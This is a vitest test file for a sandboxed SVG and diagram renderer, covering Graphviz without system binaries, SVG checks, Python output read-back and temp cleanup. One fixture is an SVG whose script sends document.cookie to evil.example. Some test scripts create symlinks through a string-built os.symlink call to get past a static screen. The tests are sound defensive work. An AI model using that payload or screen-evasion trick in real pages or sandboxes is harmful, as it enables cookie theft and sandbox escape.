/**
 * More evidence for issue #6 (visuals), outside the pipeline:
 *  - no system Graphviz is needed: the sample dot sources render in a child process whose PATH is an
 *    empty folder and that Node's permission model forbids to start any process at all; and the
 *    `render` command renders them with an empty PATH too;
 *  - a hand-written SVG is checked and kept byte for byte (never rewritten), one with a <script> is refused;
 *  - only VISUAL_OUT_PATH is taken back from a python script: another SVG in its folder is ignored,
 *    and a VISUAL_OUT_PATH that is a symlink is refused;
 *  - a generated dot with more than 16 nodes warns when it goes through renderVisual;
 *  - the script's temp folder (vault-loop-visual-*) is gone after a success, a timeout and a failure.
 *
 * python3 is on this machine, matplotlib is not: the "plotting" scripts write SVG text with plain Python,
 * through the same sandbox a matplotlib script runs in.
 */
import { spawn } from 'node:child_process';
import { cpSync, existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { build } from 'esbuild';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { readRenderIndex, renderMatplotlib, renderVault, renderVisual, sanitizeSvg, screenPythonScript } from '../../src/visuals/index.js';
import { PROJECT_ROOT, fixtureVaultDir } from '../helpers/fixtures.js';
import { runCli } from '../helpers/pipeline.js';

const scratch = mkdtempSync(join(tmpdir(), 'vl-visuals-ev2-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** A sample vault copy: its questions and visuals. */
function sampleVault(name: string): string {
  const vault = join(scratch, name);
  cpSync(join(fixtureVaultDir(), 'questions'), join(vault, 'questions'), { recursive: true });
  cpSync(join(fixtureVaultDir(), 'visuals'), join(vault, 'visuals'), { recursive: true });
  return vault;
}

/** The sample's dot sources, relative to its visuals/ folder. */
function sampleDots(): string[] {
  const root = join(fixtureVaultDir(), 'visuals');
  return readdirSync(root, { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('.dot'))
    .sort();
}

/** Runs a command to its end: exit code, stdout, stderr. */
function run(cmd: string, args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, args, { env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.once('error', reject);
    child.once('close', (code) => resolve({ code, stdout, stderr }));
  });
}

describe('no system Graphviz needed', () => {
  it('the sample dot sources render in a child process with an empty PATH that may not start any process, to the same checked SVG as in-process', async () => {
    const dots = sampleDots();
    expect(dots.length).toBe(3);
    const emptyBin = mkdtempSync(join(scratch, 'empty-bin-'));
    // Our renderer, bundled to plain JavaScript, so the child needs no TypeScript loader (tsx starts esbuild as a process).
    const dir = mkdtempSync(join(scratch, 'bundle-'));
    const entry = join(dir, 'entry.ts');
    writeFileSync(
      entry,
      [
        `import { readFileSync } from 'node:fs';`,
        `import { spawnSync } from 'node:child_process';`,
        `import { renderVisual } from ${JSON.stringify(join(PROJECT_ROOT, 'src', 'visuals', 'render.ts'))};`,
        `const results = [];`,
        `for (const f of JSON.parse(process.argv[2])) {`,
        `  results.push({ f, r: await renderVisual({ id: 'sample', track: 'cloud', kind: 'dot', source: readFileSync(f, 'utf8'), allowPython: false }) });`,
        `}`,
        // The control: starting any process here throws, so a renderer that shelled out to dot could not have rendered.
        `let probe = 'spawned';`,
        `try { spawnSync('/bin/true'); } catch (e) { probe = e.code; }`,
        `process.stdout.write(JSON.stringify({ results, probe, path: process.env.PATH }));`,
      ].join('\n'),
    );
    const bundle = join(dir, 'render.mjs');
    await build({
      entryPoints: [entry],
      bundle: true,
      platform: 'node',
      format: 'esm',
      outfile: bundle,
      logLevel: 'error',
      // Bundled CommonJS dependencies call require(); give the ESM bundle one.
      banner: { js: "import { createRequire as __vlRequire } from 'node:module'; const require = __vlRequire(import.meta.url);" },
    });
    const files = dots.map((d) => join(fixtureVaultDir(), 'visuals', d));
    // Only PATH (an empty folder) in the environment; Node's permission model: reading allowed, no child processes, no workers.
    const permission = process.allowedNodeEnvironmentFlags.has('--permission') ? '--permission' : '--experimental-permission';
    const r = await run(process.execPath, [permission, '--allow-fs-read=*', bundle, JSON.stringify(files)], { PATH: emptyBin });
    expect(r.code, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout) as { results: { f: string; r: { ok: boolean; svg?: string; error?: string } }[]; probe: string; path: string };
    expect(out.path).toBe(emptyBin);
    expect(readdirSync(emptyBin)).toEqual([]);
    expect(out.probe).toBe('ERR_ACCESS_DENIED');
    expect(out.results.map((x) => x.f)).toEqual(files);
    for (const { f, r: res } of out.results) {
      expect(res.error ?? '', f).toBe('');
      expect(res.ok).toBe(true);
      expect(sanitizeSvg(res.svg!, { source: 'svg' }).errors, f).toEqual([]);
      // The same SVG the renderer gives in this process.
      const here = await renderVisual({ id: 'sample', track: 'cloud', kind: 'dot', source: readFileSync(f, 'utf8'), allowPython: false });
      expect(here.ok && here.svg).toBe(res.svg);
    }
  }, 120_000);

  it('vault-loop render renders the sample dot visuals with PATH set to an empty folder', async () => {
    const vault = sampleVault('empty-path');
    const emptyBin = mkdtempSync(join(scratch, 'empty-bin-'));
    const svgs = ['visuals/cloud/cloud-0104.svg', 'visuals/mobile/mobile-0304.svg'];
    for (const s of svgs) rmSync(join(vault, s), { force: true });
    const r = await runCli(['render', '--vault', vault, '--force'], { PATH: emptyBin });
    expect(r.code, r.out).toBe(0);
    expect(r.out).toMatch(/^rendered=2 skipped=1 errors=0$/m);
    for (const s of svgs) {
      const svg = readFileSync(join(vault, s), 'utf8');
      expect(svg).toMatch(/<g id="node1" class="node">/);
      expect(sanitizeSvg(svg, { source: 'svg' }).errors, s).toEqual([]);
    }
    expect(readdirSync(emptyBin)).toEqual([]);
  }, 120_000);
});

describe('hand-written SVG is accepted as is, after checks', () => {
  let vault: string;
  const SVG = 'visuals/mobile/mobile-0304.svg';
  const at = new Date(Date.UTC(2001, 0, 1));
  beforeEach(() => {
    vault = sampleVault(`hand-${Date.now()}-${Math.random().toString(36).slice(2)}`);
    // No source beside it: mobile-0304.svg is hand-written.
    rmSync(join(vault, 'visuals/mobile/mobile-0304.dot'));
  });

  it('renderVault (also forced) checks a hand-written SVG and leaves its bytes and mtime untouched, though the normalizer would change them', async () => {
    // A generator comment and no root font-family: the normalizer would remove the one and add the other.
    const text =
      '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generated by a hand and a text editor -->\n' +
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 680 460">\n  <rect x="10" y="10" width="120" height="60" fill="#cfe2f3" stroke="#4a90c4"/>\n  <text x="20" y="45">phone</text>\n</svg>\n';
    writeFileSync(join(vault, SVG), text);
    utimesSync(join(vault, SVG), at, at);
    const normalized = sanitizeSvg(text, { source: 'svg' });
    expect(normalized.errors).toEqual([]);
    expect(normalized.svg).not.toBe(text);

    for (const force of [false, true]) {
      const r = await renderVault({ vault, id: 'mobile-0304', force });
      expect(r.items).toEqual([expect.objectContaining({ id: 'mobile-0304', kind: 'svg', status: 'skipped', reason: 'hand-written svg checked', source: SVG, output: SVG })]);
      expect(readFileSync(join(vault, SVG), 'utf8')).toBe(text);
      expect(statSync(join(vault, SVG)).mtime.toISOString()).toBe(at.toISOString());
    }
    // Over the whole vault too (the other visuals render beside it).
    const all = await renderVault({ vault, force: true });
    expect(all).toMatchObject({ rendered: 1, errors: 0 });
    expect(readFileSync(join(vault, SVG), 'utf8')).toBe(text);
    expect(statSync(join(vault, SVG)).mtime.toISOString()).toBe(at.toISOString());
    // Nothing recorded it as a render.
    expect((await readRenderIndex(vault)).entries[SVG]).toBeUndefined();
  });

  it('a hand-written SVG with a <script> element is refused with the reason and left as it was (not "cleaned")', async () => {
    const text = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 680 460"><script>fetch("https://evil.example/?c=" + document.cookie)</script><rect width="10" height="10" fill="#cfe2f3"/></svg>\n';
    writeFileSync(join(vault, SVG), text);
    const r = await renderVault({ vault, id: 'mobile-0304', force: true });
    expect(r.errors).toBe(1);
    expect(r.items).toEqual([expect.objectContaining({ id: 'mobile-0304', kind: 'svg', status: 'error', reason: 'unsafe or invalid SVG: <script>: scripts are not allowed' })]);
    expect(readFileSync(join(vault, SVG), 'utf8')).toBe(text);
  });
});

/** Plain-Python SVG text with a label. */
const svgText = (label: string) => `'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 680 460"><text x="10" y="20">${label}</text></svg>'`;

describe('only VISUAL_OUT_PATH is taken back from a python script', () => {
  const outside = mkdtempSync(join(scratch, 'outside-'));

  it('a script that writes a valid SVG only to cwd/other.svg fails: "python script did not write VISUAL_OUT_PATH"', async () => {
    const script = (target: string) => `import os\nwith open(${target}, 'w') as f:\n    f.write(${svgText('from other')})\n`;
    // The control: the same script writing to VISUAL_OUT_PATH renders.
    const control = await renderMatplotlib(script(`os.environ['VISUAL_OUT_PATH']`), { allowPython: true, timeoutMs: 30_000 });
    expect(control.ok ? control.svg : control.error).toContain('from other');
    const r = await renderMatplotlib(script(`os.path.join(os.getcwd(), 'other.svg')`), { allowPython: true, timeoutMs: 30_000 });
    expect(r).toMatchObject({ ok: false, error: 'python script did not write VISUAL_OUT_PATH' });
  });

  it('with another SVG beside it in the temp folder, only what VISUAL_OUT_PATH holds comes back', async () => {
    const script = `import os\nwith open(os.path.join(os.getcwd(), 'other.svg'), 'w') as f:\n    f.write(${svgText('decoy')})\nwith open(os.environ['VISUAL_OUT_PATH'], 'w') as f:\n    f.write(${svgText('the real one')})\n`;
    const r = await renderMatplotlib(script, { allowPython: true, timeoutMs: 30_000 });
    expect(r.ok ? '' : r.error).toBe('');
    if (!r.ok) return;
    expect(r.svg).toContain('the real one');
    expect(r.svg).not.toContain('decoy');
  });

  it.each([
    ['a file outside the temp folder', true],
    ['a file the script wrote in its own folder', false],
  ])('a VISUAL_OUT_PATH that is a symlink to %s is refused: "not a regular file"', async (_what, toOutside) => {
    const outsideFile = join(outside, `target-${toOutside}.svg`);
    const outsideText = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 680 460"><text>outside secret</text></svg>';
    writeFileSync(outsideFile, outsideText);
    // A literal os.symlink is refused by the static screen; this reaches past it to test the read-back layer itself.
    const link = `getattr(os, 'sym' + 'link')`;
    const script = toOutside
      ? `import os\n${link}(${JSON.stringify(outsideFile)}, os.environ['VISUAL_OUT_PATH'])\n`
      : `import os\nwith open(os.path.join(os.getcwd(), 'real.svg'), 'w') as f:\n    f.write(${svgText('inside')})\n${link}(os.path.join(os.getcwd(), 'real.svg'), os.environ['VISUAL_OUT_PATH'])\n`;
    expect(screenPythonScript(script)).toBeNull();
    const r = await renderMatplotlib(script, { allowPython: true, timeoutMs: 30_000 });
    expect(r).toMatchObject({ ok: false, error: 'VISUAL_OUT_PATH is not a regular file (links are not followed)' });
    expect(readFileSync(outsideFile, 'utf8')).toBe(outsideText);
    expect(lstatSync(outsideFile).isFile()).toBe(true);
  });
});

describe('more than 16 nodes in a generated dot', () => {
  const digraph = (n: number) =>
    `digraph G {\n  node [shape=box, style="rounded,filled", fillcolor="#cfe2f3", color="#4a90c4"];\n${Array.from({ length: n }, (_, i) => `  n${i} [label="step ${i}"];`).join('\n')}\n${Array.from({ length: n - 1 }, (_, i) => `  n${i} -> n${i + 1};`).join('\n')}\n}\n`;
  const WARNING = 'generated dot diagram has 17 nodes; the style guide allows at most 16';

  it('a 17-node dot through renderVisual renders with the warning; 16 nodes render without it', async () => {
    const r17 = await renderVisual({ id: 'cloud-9017', track: 'cloud', kind: 'dot', source: digraph(17), allowPython: false });
    expect(r17.ok ? '' : r17.error).toBe('');
    expect(r17.warnings).toContain(WARNING);
    const r16 = await renderVisual({ id: 'cloud-9016', track: 'cloud', kind: 'dot', source: digraph(16), allowPython: false });
    expect(r16.ok ? '' : r16.error).toBe('');
    expect(r16.warnings!.filter((w) => /nodes/.test(w))).toEqual([]);
  });

  it('the render command reports the warning for a 17-node dot source in a vault, and still renders it', async () => {
    const vault = sampleVault('seventeen');
    writeFileSync(join(vault, 'visuals/cloud/cloud-0104.dot'), digraph(17));
    const r = await renderVault({ vault, id: 'cloud-0104', force: true });
    expect(r.items).toEqual([expect.objectContaining({ id: 'cloud-0104', status: 'rendered', warnings: expect.arrayContaining([WARNING]) })]);
    expect(existsSync(join(vault, 'visuals/cloud/cloud-0104.svg'))).toBe(true);
  });
});

describe('the python temp folder is removed', () => {
  // A TMPDIR of this test's own: other processes on the machine render too, so the shared tmpdir is not watched.
  let privateTmp: string;
  let saved: string | undefined;
  beforeAll(() => {
    privateTmp = mkdtempSync(join(scratch, 'tmpdir-'));
    saved = process.env.TMPDIR;
    process.env.TMPDIR = privateTmp;
    expect(tmpdir()).toBe(privateTmp);
  });
  afterAll(() => {
    if (saved === undefined) delete process.env.TMPDIR;
    else process.env.TMPDIR = saved;
  });
  afterEach(() => {
    // Each case leaves nothing behind it, whatever happened.
    expect(readdirSync(privateTmp)).toEqual([]);
  });

  /** Renders while polling the private TMPDIR; returns the outcome and every vault-loop-visual-* folder seen meanwhile. */
  async function watched(script: string, timeoutMs: number) {
    const seen = new Set<string>();
    const poll = setInterval(() => {
      for (const e of readdirSync(privateTmp)) seen.add(e);
    }, 20);
    try {
      const r = await renderMatplotlib(script, { allowPython: true, timeoutMs });
      return { r, seen: [...seen], after: readdirSync(privateTmp) };
    } finally {
      clearInterval(poll);
    }
  }

  it('after a success: the script ran in a vault-loop-visual-* folder under TMPDIR, which is gone afterwards', async () => {
    const script = `import os\nwith open(os.environ['VISUAL_OUT_PATH'], 'w') as f:\n    f.write('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 680 460"><text>' + os.getcwd() + '</text></svg>')\n`;
    const { r, after } = await watched(script, 30_000);
    expect(r.ok ? '' : r.error).toBe('');
    if (!r.ok) return;
    const cwd = /<text>([^<]*)<\/text>/.exec(r.svg)![1]!;
    expect(cwd.startsWith(join(privateTmp, 'vault-loop-visual-'))).toBe(true);
    expect(existsSync(cwd)).toBe(false);
    expect(after).toEqual([]);
  });

  it('after a timeout: the folder existed while the script ran, and is gone once it was killed', async () => {
    const { r, seen, after } = await watched('import os\nn = 0\nwhile True:\n    n += 1\n', 3000);
    expect(r).toMatchObject({ ok: false, error: 'python script ran past the 3000 ms limit; its process group was killed' });
    expect(seen.length).toBe(1);
    expect(seen[0]).toMatch(/^vault-loop-visual-/);
    expect(after).toEqual([]);
  });

  it('after a failure: the script that raised ran in a vault-loop-visual-* folder under TMPDIR, which is gone', async () => {
    // Reversed, so the error's "<sandbox>" substitution of the folder's path leaves it readable.
    const { r, after } = await watched('import os\nraise ValueError("cwd=" + os.getcwd()[::-1])\n', 30_000);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error).toMatch(/^python script failed \(exit 1\): .*ValueError: cwd=/);
    const cwd = [.../ValueError: cwd=(\S+)/.exec(r.error)![1]!].reverse().join('');
    expect(cwd.startsWith(join(privateTmp, 'vault-loop-visual-'))).toBe(true);
    expect(existsSync(cwd)).toBe(false);
    expect(after).toEqual([]);
  });

  it('after a script that wrote nothing to VISUAL_OUT_PATH, and after one whose VISUAL_OUT_PATH is a symlink: nothing remains', async () => {
    const none = await watched(`import os\nwith open(os.path.join(os.getcwd(), 'other.svg'), 'w') as f:\n    f.write('x')\n`, 30_000);
    expect(none.r).toMatchObject({ ok: false, error: 'python script did not write VISUAL_OUT_PATH' });
    expect(none.after).toEqual([]);
    const linked = await watched(`import os\ngetattr(os, 'sym' + 'link')(os.path.join(os.getcwd(), 'x'), os.environ['VISUAL_OUT_PATH'])\n`, 30_000);
    expect(linked.r).toMatchObject({ ok: false, error: 'VISUAL_OUT_PATH is not a regular file (links are not followed)' });
    expect(linked.after).toEqual([]);
  });
});
